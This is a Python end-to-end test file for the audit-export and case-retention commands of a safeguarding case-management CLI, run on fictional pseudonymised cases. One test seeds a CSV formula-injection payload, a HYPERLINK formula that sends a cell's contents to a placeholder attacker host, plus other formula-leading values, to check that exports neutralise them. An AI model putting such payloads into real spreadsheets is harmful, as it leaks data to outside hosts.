"""`cspr-bot audit` and `cspr-bot retention` as a user runs them, on a temporary workspace seeded with
fictional cases (pseudonyms only) through the same local adapters the command opens."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.adapters.local.library import FolderLibrary
from bot.adapters.local.register import SqliteCaseRegister
from bot.domain.model import AgencyRequest, Case, Stage
from bot.domain.records import CASES, LISTS, REQUESTS, case_to_fields, request_to_fields
from bot.ledger import SqliteLedger
from bot.ports import AuditEvent
from tests.conftest import DEFAULT_CONFIG
from tests.e2e.test_cli import cspr

pytestmark = pytest.mark.e2e
TEAM = "business-team@northshire-scp.example"


def seed_audit(ws: Path, *events: AuditEvent) -> None:
    ws.mkdir(parents=True, exist_ok=True)
    ledger = SqliteLedger(ws / "ledger.sqlite")
    for event in events:
        ledger.audit(event)
    ledger.close()


def audit_trail(ws: Path) -> list[AuditEvent]:
    ledger = SqliteLedger(ws / "ledger.sqlite")
    try:
        return list(ledger.audit_trail())
    finally:
        ledger.close()


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


class TestAudit:
    @pytest.fixture
    def ws(self, tmp_path: Path) -> Path:
        ws = tmp_path / "ws"
        seed_audit(
            ws,
            AuditEvent(at("2026-01-05T10:00"), "request_sent", case_ref="RR-2026-001", agency="POL",
                       detail="rule: information request", outbox_key="request:RR-2026-001:POL"),
            AuditEvent(at("2026-02-10T10:00"), "request_sent", case_ref="RR-2026-002", agency="HLT",
                       detail="rule: information request", outbox_key="request:RR-2026-002:HLT"),
            AuditEvent(at("2026-06-30T23:30"), "released", case_ref="RR-2026-001", detail="nccu_notification",
                       outbox_key="nccu:RR-2026-001", actor="dcs@northshire-scp.example"),
        )
        return ws

    def test_the_export_filters_by_case(self, ws: Path) -> None:
        rows = json.loads(cspr("--workspace", str(ws), "audit", "--case", "RR-2026-001", "--json").stdout)
        assert [(r["action"], r["outbox_key"]) for r in rows] == [
            ("request_sent", "request:RR-2026-001:POL"), ("released", "nccu:RR-2026-001")]

    def test_the_export_filters_by_date_in_uk_time(self, ws: Path) -> None:
        rows = json.loads(cspr("--workspace", str(ws), "audit", "--since", "2026-02-01", "--json").stdout)
        assert [r["case_ref"] for r in rows] == ["RR-2026-002", "RR-2026-001"]
        # 23:30 UTC on 30 June is 00:30 on 1 July in London (BST)
        rows = json.loads(cspr("--workspace", str(ws), "audit", "--since", "01/07/2026", "--json").stdout)
        assert [r["action"] for r in rows] == ["released"]

    def test_case_and_date_filters_combine(self, ws: Path) -> None:
        rows = json.loads(cspr("--workspace", str(ws), "audit", "--case", "RR-2026-001", "--since", "2026-02-01",
                               "--json").stdout)
        assert [r["outbox_key"] for r in rows] == ["nccu:RR-2026-001"]

    def test_the_human_table_shows_one_line_per_event(self, ws: Path) -> None:
        out = cspr("--workspace", str(ws), "audit", "--case", "RR-2026-002").stdout.splitlines()
        assert len(out) == 2 and "when (UK)" in out[0]
        assert "request_sent" in out[1] and "HLT" in out[1] and "request:RR-2026-002:HLT" in out[1]

    def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(self, ws: Path) -> None:
        crafted = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        seed_audit(ws, AuditEvent(at("2026-03-01T09:00"), "case_unreadable", case_ref="RR-2026-003",
                                  detail=crafted),
                   AuditEvent(at("2026-03-01T09:01"), "note", case_ref="RR-2026-003", agency="@SUM(A1)",
                              detail="\t=1", outbox_key="-1+1", actor="+1"))
        done = cspr("--workspace", str(ws), "audit", "--case", "RR-2026-003", "--csv")
        rows = list(csv.DictReader(io.StringIO(done.stdout)))
        assert rows[0]["detail"] == "'" + crafted
        assert (rows[1]["agency"], rows[1]["detail"], rows[1]["outbox_key"], rows[1]["actor"]) == (
            "'@SUM(A1)", "'\t=1", "'-1+1", "'+1")
        assert rows[0]["case_ref"] == "RR-2026-003" and rows[0]["at"] == "2026-03-01T09:00:00+00:00"

    def test_an_empty_selection_says_so(self, ws: Path) -> None:
        assert "no audit events" in cspr("--workspace", str(ws), "audit", "--case", "RR-1999-001").stdout


NOW = datetime.now(UTC)
OLD = at("2015-06-01T12:00")


class TestRetention:
    """Northshire keeps closed cases 6 years in these tests (retention_years in a copy of the config)."""

    @pytest.fixture
    def config(self, tmp_path: Path) -> str:
        text = DEFAULT_CONFIG.read_text()
        assert text.count('case_prefix = "RR"') == 1
        path = tmp_path / "six-years.toml"
        path.write_text(text.replace('case_prefix = "RR"', 'case_prefix = "RR"\nretention_years = 6'))
        return str(path)

    @pytest.fixture
    def ws(self, tmp_path: Path) -> Path:
        ws = tmp_path / "ws"
        ws.mkdir()
        register = SqliteCaseRegister(ws / "register.sqlite", LISTS)
        library = FolderLibrary(ws / "library")
        for ref, child, stage, when in [("RR-2015-001", "Child A", Stage.CLOSED, OLD),
                                        ("RR-2015-002", "Child B", Stage.PUBLISHED, OLD),
                                        ("RR-2024-001", "Child C", Stage.CLOSED, NOW - timedelta(days=30))]:
            case = Case(ref=ref, partnership="northshire", child=child, stage=stage, agencies=("POL", "HLT"))
            register.add(CASES, case_to_fields(case), by=TEAM, at=when)
            register.add(REQUESTS, request_to_fields(AgencyRequest(ref, "POL", f"tok-{ref}")), by=TEAM, at=when)
            library.save(ref, "returns/POL.docx", b"agency return for " + child.encode())
            library.save(ref, "report.docx", b"rapid review report")
        register.close()
        return ws

    def run(self, config: str, ws: Path, *args: str) -> str:
        return cspr("--config", config, "--workspace", str(ws), "retention", *args).stdout

    def test_a_dry_run_lists_only_closed_cases_past_the_period(self, config: str, ws: Path) -> None:
        found = json.loads(self.run(config, ws, "--dry-run", "--json"))
        assert [c["ref"] for c in found] == ["RR-2015-001"]
        assert found[0]["documents"] == ["report.docx", "returns/POL.docx"] and found[0]["deleted"] == []
        assert found[0]["closed_on"] == "2015-06-01" and found[0]["retain_until"] == "2021-06-01"
        assert [(i["list"], i["what"]) for i in found[0]["register_items"]] == [
            ("cases", "the case"), ("requests", "agency request POL")]

    def test_a_dry_run_changes_nothing(self, config: str, ws: Path) -> None:
        before = sorted(p.relative_to(ws) for p in (ws / "library").rglob("*"))
        out = self.run(config, ws)  # no flag means --dry-run
        assert "RR-2015-001" in out and "returns/POL.docx" in out and "nothing changed" in out
        assert "RR-2015-002" not in out and "RR-2024-001" not in out and "Child" not in out
        assert sorted(p.relative_to(ws) for p in (ws / "library").rglob("*")) == before
        assert audit_trail(ws) == []

    def test_the_default_period_keeps_a_case_closed_eleven_years_ago(self, ws: Path) -> None:
        out = cspr("--config", str(DEFAULT_CONFIG), "--workspace", str(ws), "retention").stdout
        assert "no closed case is past its retention period" in out

    def test_apply_deletes_that_cases_documents_and_audits_each_deletion(self, config: str, ws: Path) -> None:
        out = self.run(config, ws, "--apply", "--by", "Business-Team@northshire-scp.example")
        assert "deleted 2 documents of 1 cases" in out and "remove by hand" in out
        assert not (ws / "library" / "RR-2015-001" / "report.docx").exists()
        assert not (ws / "library" / "RR-2015-001" / "returns" / "POL.docx").exists()
        for kept in ("RR-2015-002", "RR-2024-001"):
            assert (ws / "library" / kept / "report.docx").exists()
            assert (ws / "library" / kept / "returns" / "POL.docx").exists()
        trail = audit_trail(ws)
        assert [(e.action, e.case_ref, e.detail, e.actor) for e in trail] == [
            ("retention_deleted", "RR-2015-001", "report.docx", TEAM),
            ("retention_deleted", "RR-2015-001", "returns/POL.docx", TEAM)]
        again = json.loads(self.run(config, ws, "--json"))
        assert again[0]["documents"] == [] and len(again[0]["register_items"]) == 2  # the items wait for a person

    def test_apply_with_nothing_past_retention_says_so_and_exits_0(self, ws: Path) -> None:
        out = cspr("--config", str(DEFAULT_CONFIG), "--workspace", str(ws), "retention", "--apply").stdout
        assert "nothing to delete" in out
        assert (ws / "library" / "RR-2015-001" / "report.docx").exists()

    def test_apply_refuses_a_pretended_date(self, config: str, ws: Path) -> None:
        done = cspr("--config", config, "--workspace", str(ws), "retention", "--apply", "--now", "2099-01-01T09:00",
                    check=False)
        assert done.returncode == 2 and "--now" in done.stderr
        assert (ws / "library" / "RR-2024-001" / "report.docx").exists()
